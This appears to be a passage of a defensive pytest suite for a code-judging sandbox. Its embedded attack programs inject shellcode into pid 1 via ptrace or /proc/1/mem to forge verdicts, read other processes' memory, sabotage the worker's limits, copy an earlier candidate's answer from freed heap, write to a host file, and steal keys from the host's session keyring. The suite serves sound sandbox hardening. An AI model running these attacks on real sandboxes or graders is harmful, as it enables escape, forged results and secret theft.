code = shellcode(forged())
code += b"\x90" * (-len(code) % 8)
for i in range(0, len(code), 8):
    check(libc.ptrace(PTRACE_POKEDATA, 1, ctypes.c_void_p(pc + i),
                      ctypes.c_void_p(int.from_bytes(code[i:i + 8], "little"))), "PTRACE_POKEDATA")
check(libc.ptrace(PTRACE_DETACH, 1, None, None), "PTRACE_DETACH")  # wait4 restarts, returns into our code
orphan_dies()
spin()
'''


@X86_64_ONLY
@pytest.mark.parametrize("how", ["attach", "seize"])
def test_forging_a_reply_from_pid1_with_ptrace(lone, how):
    """PTRACE_ATTACH (or PTRACE_SEIZE + INTERRUPT) pid 1, poke code where its wait4 returns, detach,
    and make an orphan die so that it returns: pid 1 writes a forged OK reply on its stdout (the
    reply pipe), then goes on reaping, out of reach of the sweep (kill(-1) spares pid 1)."""
    attack(lone, attack_program(INJECT_WITH_PTRACE.replace("{how}", how)), limits=SPIN_LIMITS, spins=True)


INJECT_WITH_PROC_MEM = SHELLCODE + r'''
with open("/proc/1/mem", "r+b", buffering=0) as mem:
    mem.seek(pc - 2)
    if mem.read(2) != b"\x0f\x05":
        raise RuntimeError("pid 1 is not where we expected")
    mem.write(shellcode(forged()))  # at pc: the text is private to pid 1, FOLL_FORCE writes it
orphan_dies()
spin()
'''


@X86_64_ONLY
def test_forging_a_reply_from_pid1_through_proc_mem(lone):
    """Read /proc/1/syscall for the address pid 1's wait4 returns to, check the syscall instruction
    through /proc/1/mem, write code there through /proc/1/mem, wake pid 1 (an orphan dies): it
    writes a forged OK reply. No ptrace call at all."""
    attack(lone, attack_program(INJECT_WITH_PROC_MEM), limits=SPIN_LIMITS, spins=True)


READ_MEMORY = r'''
target = {target}
if target == 1:
    address = int(open("/proc/1/maps").readline().split("-")[0], 16)
else:
    address = id(None)  # the worker is our parent and we are its fork: same addresses
if "{how}" == "process_vm_readv":
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    buf = ctypes.create_string_buffer(64)
    n = check(libc.process_vm_readv(target, ctypes.byref(iovec(ctypes.addressof(buf), 64)), 1,
                                    ctypes.byref(iovec(address, 64)), 1, 0), "process_vm_readv")
    data = buf.raw[:n]
else:
    with open(f"/proc/{target}/mem", "rb", buffering=0) as mem:
        mem.seek(address)
        data = mem.read(64)
print("read", len(data), "bytes of", target, data.hex())
'''


@pytest.mark.parametrize("how", ["process_vm_readv", "proc_mem"])
@pytest.mark.parametrize("target", ["1", "os.getppid()"], ids=["pid1", "worker"])
def test_reading_another_process_memory(lone, how, target):
    """process_vm_readv() or /proc/PID/mem on pid 1 or on the worker (whose memory holds every
    loaded program and the control channel's state). (Refused for the worker today: not dumpable.)"""
    attack(lone, attack_program(READ_MEMORY.replace("{how}", how).replace("{target}", target)))


NEW_NAMESPACES = r'''
flags = {"user": 0x10000000, "mount": 0x20000, "pid": 0x20000000, "net": 0x40000000, "ipc": 0x8000000,
         "uts": 0x4000000, "cgroup": 0x2000000, "time": 0x80}
made = [name for name, flag in flags.items() if libc.unshare(flag) == 0]
if not made:
    raise OSError(ctypes.get_errno(), "every new namespace refused")
print("new namespaces:", made)
'''


def test_new_namespaces_are_refused(lone):
    """unshare() of every kind of namespace: a user namespace of its own would make the test root
    there, with mounts and the rest. (Refused today: bwrap's --disable-userns, and no capability
    for the others.)"""
    attack(lone, attack_program(NEW_NAMESPACES), allowed=(Status.RUNTIME_ERROR,))


# -- 2. escaping the verdict by taking the sandbox down -----------------------------------------

@pytest.mark.parametrize("how", [
    "os.kill(os.getppid(), signal.SIGKILL)",
    "os.kill(1, signal.SIGKILL)",
    "signal.pidfd_send_signal(os.pidfd_open(1), signal.SIGKILL)",
    "check(libc.ptrace(PTRACE_SEIZE, 1, None, ctypes.c_void_p(PTRACE_O_EXITKILL)), 'PTRACE_SEIZE')",
], ids=["kill-worker", "kill-pid1", "pidfd_send_signal-pid1", "ptrace-exitkill-pid1"])
def test_taking_the_sandbox_down_with_a_spinning_program(lone, how):
    """A program that loops forever kills its worker, or pid 1 (kill, pidfd_send_signal: ignored
    today, pid 1 of a PID namespace), or makes the kernel kill pid 1 when the worker kills it at
    its time limit (PTRACE_SEIZE with PTRACE_O_EXITKILL). Its verdict must stay TIMEOUT, not
    become SANDBOX_ERROR (a failure of ours, that a caller may retry or not count)."""
    attack(lone, attack_program(f"{how}\nspin()\n"), limits=SPIN_LIMITS, spins=True)


# -- 3. sabotaging the next candidate through the worker's limits ------------------------------

@pytest.mark.parametrize("target, plan", [
    ("os.getppid()", [("NPROC", 3)]),
    ("os.getppid()", [("NOFILE", 8)]),
    ("os.getppid()", [("AS", 64 << 20)]),
    ("os.getppid()", [("CPU", 1)]),
    ("os.getppid()", [("FSIZE", 1)]),
    ("1", [("NPROC", 1), ("NOFILE", 3), ("AS", 16 << 20), ("CPU", 1)]),
], ids=["worker-NPROC", "worker-NOFILE", "worker-AS", "worker-CPU", "worker-FSIZE", "pid1-all"])
def test_lowering_the_limits_of_another_process(lone, target, plan):
    """prlimit() on the worker (same user: no ptrace check) lowers a limit every later test
    inherits, or that the worker needs to set the next test's limits (a hard limit can never be
    raised again): every candidate after it fails on this worker. (Pid 1's limits matter to no
    one today.)"""
    body = "".join(f"resource.prlimit({target}, resource.RLIMIT_{r}, ({v}, {v}))\n" for r, v in plan)
    attack(lone, attack_program(body + "spin()\n"), limits=SPIN_LIMITS, spins=True)


@pytest.mark.parametrize("how", [
    "os.setpriority(os.PRIO_USER, 0, 19)",  # who=0: "my own user", every process of the sandbox
    "os.sched_setscheduler(os.getppid(), os.SCHED_IDLE, os.sched_param(0))",
    "os.sched_setaffinity(os.getppid(), {0})",
], ids=["nice-19-for-the-whole-user", "worker-SCHED_IDLE", "worker-one-cpu"])
def test_slowing_down_the_next_candidates(lone, how):
    """Renice every process of the user (the worker included) to 19, or put the worker under
    SCHED_IDLE, or pin it to one CPU: every later test inherits it. Under SCHED_IDLE on a busy
    host a test hardly runs, looks idle to the worker and ends TIMEOUT at the wall-clock cap."""
    attack(lone, attack_program(f"{how}\nspin()\n"), limits=SPIN_LIMITS, spins=True)


# -- 4. memory the resident set does not show ----------------------------------------------------

MEMORY_LIMITS = Limits(time_s=2, memory_bytes=128 << 20)  # output 32 MiB: files may be that large
HOARDS = {
    # 40 memfds of 30 MiB (1.2 GiB of shmem), never mapped, under a 256 MiB limit.
    "memfd": ("fds = []\nfor i in range(40):\n    fds.append(os.memfd_create(f'hoard{i}'))\n"
              "    os.posix_fallocate(fds[-1], 0, 30 << 20)\nprint('held', 40 * 30, 'MiB')\n",
              Limits(time_s=2, memory_bytes=256 << 20)),
    # 300 MiB of files in /dev and in / (tmpfs the size of half the host's memory, never wiped).
    "dev-files": ("for i in range(10):\n    with open(f'/dev/hoard{i}', 'wb') as fh:\n"
                  "        fh.write(bytes(30 << 20))\nprint('held 300 MiB')\n", MEMORY_LIMITS),
    "root-files": ("for i in range(10):\n    with open(f'/hoard{i}', 'wb') as fh:\n"
                   "        fh.write(bytes(30 << 20))\nprint('held 300 MiB')\n", MEMORY_LIMITS),
    # 210 MiB in /tmp (256 MiB by default: twice this memory limit).
    "tmp-files": ("for i in range(7):\n    with open(f'/tmp/hoard{i}', 'wb') as fh:\n"
                  "        fh.write(bytes(30 << 20))\nprint('held 210 MiB')\n", MEMORY_LIMITS),
    # 300 MiB queued in Unix socket buffers, both ways (as many fds as it takes: RLIMIT_NOFILE is 20,000).
    "socket-buffers": ("import socket\nheld, pairs = 0, []\nwhile held < 300 << 20:\n    pairs.append(socket.socketpair())\n"
                       "    for s in pairs[-1]:\n        s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)\n"
                       "        s.setblocking(False)\n        try:\n            while True:\n"
                       "                held += s.send(bytes(1 << 20))\n        except BlockingIOError:\n            pass\n"
                       "print('held', held >> 20, 'MiB in', len(pairs), 'socket pairs')\n", MEMORY_LIMITS),
    # 300 MiB in System V shared memory, touched then detached (removed only after the test).
    "sysv-shm": ("libc.shmat.restype = ctypes.c_void_p\nfor i in range(10):\n"
                 "    shm = check(libc.shmget(0, 30 << 20, 0o1000 | 0o600), 'shmget')\n"
                 "    addr = libc.shmat(shm, None, 0)\n    check(-1 if addr in (None, 2 ** 64 - 1) else 0, 'shmat')\n"
                 "    ctypes.memset(addr, 1, 30 << 20)\n    libc.shmdt(ctypes.c_void_p(addr))\nprint('held 300 MiB')\n",
                 MEMORY_LIMITS),
    # 300 MiB in a System V message queue, once the IPC namespace's sysctls allow it (they are writable).
    "sysv-msg": ("open('/proc/sys/kernel/msgmax', 'w').write(str(1 << 20))\n"
                 "open('/proc/sys/kernel/msgmnb', 'w').write(str(400 << 20))\n"
                 "queue = check(libc.msgget(0, 0o1000 | 0o600), 'msgget')\n"
                 "message = ctypes.create_string_buffer(b'\\1' * 8, 8 + (1 << 20))  # type 0x0101..., 1 MiB\n"
                 "for i in range(300):\n    check(libc.msgsnd(queue, message, 1 << 20, 0o4000), 'msgsnd')\n"
                 "print('held 300 MiB')\n", MEMORY_LIMITS),
    # 4 children of 100 MiB each (each under the limit), while the parent waits on a pipe.
    "children": ("r, w = os.pipe()\nfor _ in range(4):\n    if os.fork() == 0:\n        os.close(r)\n"
                 "        hoard = bytearray(100 << 20)\n        for i in range(0, len(hoard), 4096):\n"
                 "            hoard[i] = 1\n        os.write(w, b'x')\n        time.sleep(0.5)\n        os._exit(0)\n"
                 "os.close(w)\nprint(len(b''.join(iter(lambda: os.read(r, 1), b''))), 'children held 100 MiB each')\n",
                 MEMORY_LIMITS),
}


@pytest.mark.parametrize("where", list(HOARDS))
def test_holding_memory_outside_the_resident_set(lone, where):
    """Hold several times the memory limit where ru_maxrss and the polled RSS of the test's
    process do not look: memfds never mapped, files in the writable tmpfs, socket buffers,
    System V shared memory no longer attached, children. Must end MEMORY_LIMIT, or
    RUNTIME_ERROR where the hoarding is refused."""
    code, limits = HOARDS[where]
    attack(lone, attack_program(code), limits=limits, allowed=(Status.MEMORY_LIMIT, Status.RUNTIME_ERROR))


# -- 5. CPU time spread over processes ------------------------------------------------------------

CPU_IN_CHILDREN = r'''
r, w = os.pipe()
for _ in range(3):
    if os.fork() == 0:
        os.close(r)
        end = time.process_time() + 1.0
        while time.process_time() < end:
            pass
        os._exit(0)
os.close(w)
os.read(r, 1)  # blocks, using no CPU, until every child has exited
print("3 s of CPU")
'''


def test_cpu_time_spent_in_children(lone):
    """Three children burn 1 s of CPU each while the parent blocks on a pipe (never reaping
    them, so wait4() counts none of it), under a 2 s limit. Must be TIMEOUT, with the children's
    CPU time in cpu_s."""
    limits = Limits(time_s=2, memory_bytes=128 << 20)
    r = attack(lone, attack_program(CPU_IN_CHILDREN), limits=limits, allowed=(Status.TIMEOUT,))[0]
    assert r.cpu_s >= limits.time_s, _show(r)


# -- 6. state that outlives a test ----------------------------------------------------------------

LEAVE_BEHIND = {  # where: (leave MARK there, what is found there)
    "dev": ("open('/dev/left-behind', 'w').write(MARK)",
            "open('/dev/left-behind').read() if os.path.exists('/dev/left-behind') else ''"),
    "root": ("open('/left-behind', 'w').write(MARK)",
             "open('/left-behind').read() if os.path.exists('/left-behind') else ''"),
    "user-keyring": ("check(libc.syscall(NR['add_key'], b'user', b'left-behind', MARK.encode(), len(MARK), "
                     "ctypes.c_int(-4)), 'add_key')", "user_key('left-behind')"),
    # The IPC namespace's sysctls are writable, and the namespace is the sandbox's: a number
    # passes from test to test (and shmmni, msgmni, sem or queues_max at 0 refuse IPC to the next).
    "ipc-sysctl": ("open('/proc/sys/kernel/msgmnb', 'w').write('31337')",
                   "MARK if open('/proc/sys/kernel/msgmnb').read().strip() == '31337' else ''"),
}
USER_KEY = r'''
def user_key(name):
    """The payload of the key `name` in the user keyring, or ''."""
    key = libc.syscall(NR["keyctl"], 10, ctypes.c_int(-4), b"user", name.encode(), 0)  # KEYCTL_SEARCH
    buf = ctypes.create_string_buffer(4096)
    n = libc.syscall(NR["keyctl"], 11, ctypes.c_int(key), buf, 4096) if key > 0 else -1  # KEYCTL_READ
    return buf.raw[:n].decode() if n > 0 else ""
'''


@pytest.mark.parametrize("where", list(LEAVE_BEHIND))
def test_nothing_a_test_leaves_reaches_the_next(lone, where):
    """A test leaves a note in /dev or / (writable tmpfs, never wiped), in the user keyring (keys
    outlive processes) or in a sysctl of the sandbox's IPC namespace: the same program's next
    test and the next candidate look for it."""
    store, load = LEAVE_BEHIND[where]
    writer = attack_program(USER_KEY + f"MARK = 'note from an earlier test'\nif input() == 'write':\n"
                                       f"    {store}\n    print('left')\nelse:\n    print({load} or 'nothing')\n")
    reader = Job(attack_program(USER_KEY + f"MARK = 'note from an earlier test'\nprint({load} or 'nothing')"),
                 [""], ["nothing"], LIMITS)
    r = attack(lone, writer, inputs=["write", "read"], allowed=None, after=[reader])
    assert r[1].stdout == "nothing\n", _show(r[1])


OTHER_PROGRAMS = r'''
found = set()
frame_ = sys._getframe()
while frame_ is not None:  # the worker's frames are ours too: we are its fork
    for program in frame_.f_globals.get("LOADED", {}).values():
        if getattr(program, "code", None) is not None:
            found.add(repr(program.code.co_consts))
    frame_ = frame_.f_back
import gc
found |= {repr(o.co_consts) for o in gc.get_objects()
          if type(o).__name__ == "code" and o.co_filename == "solution.py"}

def ours(code):
    yield repr(code.co_consts)
    for const in code.co_consts:
        if type(const).__name__ == "code":
            yield from ours(const)


found -= set(ours(sys._getframe().f_code))
# And any trace of them in our memory (a copy of the worker's), live or freed: here, their
# string constants, "victim-" and 16 hex digits.
import re
needle = re.compile(re.escape(("vic" + "tim-").encode()) + rb"[0-9a-f]{16}")
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        if fields[1].startswith("rw"):
            start, end = (int(x, 16) for x in fields[0].split("-"))
            try:
                mem.seek(start)
                found |= {m.group().decode() for m in needle.finditer(mem.read(end - start))}
            except (OSError, ValueError, OverflowError):
                pass
if not found:
    raise RuntimeError("no other program in sight")
print(sorted(found))
'''


def test_other_candidates_code_is_out_of_reach(lone):
    """A Python test is a fork of the worker: it walks up its frames to the worker's globals (the
    LOADED programs, up to 32), through gc.get_objects(), and through its own memory (live or
    freed), and prints the compiled code of the candidates judged before it on this worker."""
    token = "victim-" + secrets.token_hex(8)
    victim = Job(Program("python3", f"print({token!r}[:6])"), [""], ["victim"], LIMITS)
    r = attack(lone, attack_program(OTHER_PROGRAMS), before=[victim])[0]
    assert token not in r.stdout


COPY_THE_PREVIOUS_ANSWER = r'''
words = input().split()
tag = struct.pack("<Q", id(bytes))  # a bytes object's type pointer: it survives free() in pymalloc
answers = []
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", buffering=0) as mem:
    for line in maps:
        fields = line.split()
        if not fields[1].startswith("rw"):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        try:
            mem.seek(start)
            data = mem.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        at = data.find(tag)
        while at >= 0:
            (size,) = struct.unpack_from("<q", data, at + 8)
            text = data[at + 24:at + 24 + size] if 1 < size < 4096 else b""
            # The answer is a permutation of our words; the order is what we cannot compute.
            if text.endswith(b"\n") and text.isascii() and sorted(text.split()) == sorted(w.encode() for w in words) \
                    and text.split() != [w.encode() for w in words]:
                answers.append(text.decode())
            at = data.find(tag, at + 8)
if not answers:
    raise RuntimeError("no earlier answer in sight")
print(answers[-1], end="")
'''


def test_copying_the_previous_candidates_answer_from_the_workers_heap(lone):
    """A candidate that cannot solve the problem scans its own memory (a copy of the worker's)
    for the stdout the worker read from the previous candidate's test on the same input: a freed
    bytes object, still intact. It prints it, and passes. (A new way in: the frames are not even
    needed; freed memory of the worker carries outputs, and inputs, from test to test.)"""
    words = "delta alpha charlie bravo"
    answer = " ".join(sorted(words.split(), key=lambda w: w[::-1]))
    solver = Job(Program("python3", "print(' '.join(sorted(input().split(), key=lambda w: w[::-1])))"),
                 [words], [answer], LIMITS)
    r = attack(lone, attack_program(COPY_THE_PREVIOUS_ANSWER), inputs=[words], expected=[answer],
               before=[solver])[0]
    assert answer not in r.stdout


# -- 7. reaching the host -------------------------------------------------------------------------

HOST_FILE = r'''
written = []
for target in (1, os.getppid()):
    for fd in range(64):
        try:
            ours = grab(target, fd)
        except OSError:
            continue  # no such fd, or a target out of reach
        if stat.S_ISREG(os.fstat(ours).st_mode) and fcntl.fcntl(ours, fcntl.F_GETFL) & os.O_ACCMODE != os.O_RDONLY:
            os.write(ours, b"MARK\n")
            written.append(os.readlink(f"/proc/self/fd/{ours}"))
if not written:
    raise RuntimeError("no writable file in reach")
print("wrote to", written)
'''


def test_no_host_file_is_writable_through_pid1(lone):
    """Pid 1's stderr is the host's temporary file for the worker's stderr (on the host's /tmp,
    outside every size limit of the sandbox; the host shows it in its error messages): a test
    takes it with pidfd_getfd() and writes to it."""
    mark = "written-by-a-test-" + secrets.token_hex(6)
    attack(lone, attack_program(HOST_FILE.replace("MARK", mark)), allowed=(Status.RUNTIME_ERROR,))
    assert all(mark not in w.stderr_text() for w in lone._all)


KEYRING_SCRIPT = """
import ctypes, json, platform, sys
from acodium.execute import Job, Limits, Program
from acodium.execute.local import LocalBackend
NR = {numbers}[platform.machine()]
libc = ctypes.CDLL(None, use_errno=True)
# A session keyring of our own holding a secret, as a login session's may (Kerberos tickets, ...).
assert libc.syscall(NR["keyctl"], 1, b"acodium-test-session") > 0  # KEYCTL_JOIN_SESSION_KEYRING
secret = sys.argv[1].encode()
assert libc.syscall(NR["add_key"], b"user", b"host-secret", secret, len(secret), ctypes.c_int(-3)) > 0
with LocalBackend(workers=1) as be:
    r = be.run(Job(Program("python3", sys.argv[2]), [""], None, Limits(time_s=2)))[0]
print(json.dumps(r.to_dict()))
"""

KEYRING_THIEF = r'''
buf = ctypes.create_string_buffer(4096)
stolen = []
for keyring in (-1, -2, -3, -4, -5):  # thread, process, session, user, user-session keyrings
    n = libc.syscall(NR["keyctl"], 11, ctypes.c_int(keyring), buf, 4096)  # KEYCTL_READ: its key ids
    for key in struct.unpack(f"{max(n, 0) // 4}i", buf.raw[:max(n, 0)]):
        m = libc.syscall(NR["keyctl"], 11, key, buf, 4096)
        if m > 0:
            stolen.append(buf.raw[:m].decode("latin-1"))
if not stolen:
    raise RuntimeError("no key in reach")
print(stolen)
'''


def test_host_session_keyring_is_out_of_reach():
    """The sandbox keeps the session keyring of the process that started it (bwrap does not
    change it, setuid does not either): a test reads the keys of the host's session. (A new way
    in: the environment is cleared, the keyring is not.)"""
    secret = "sk-" + secrets.token_hex(16)
    env = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(REPO), "HOME": "/tmp"}
    script = KEYRING_SCRIPT.format(numbers=repr(SYSCALL_NUMBERS))
    p = subprocess.run([sys.executable, "-c", script, secret, PRELUDE + KEYRING_THIEF],
                       capture_output=True, text=True, timeout=120, env=env, cwd="/tmp")
    assert p.returncode == 0, p.stderr
    r = json.loads(p.stdout.strip().splitlines()[-1])
    assert secret not in r["stdout"], f"the test read the host's keyring: {r['status']} {r['stdout'][:300]!r}"
    assert r["status"] == "RUNTIME_ERROR", r
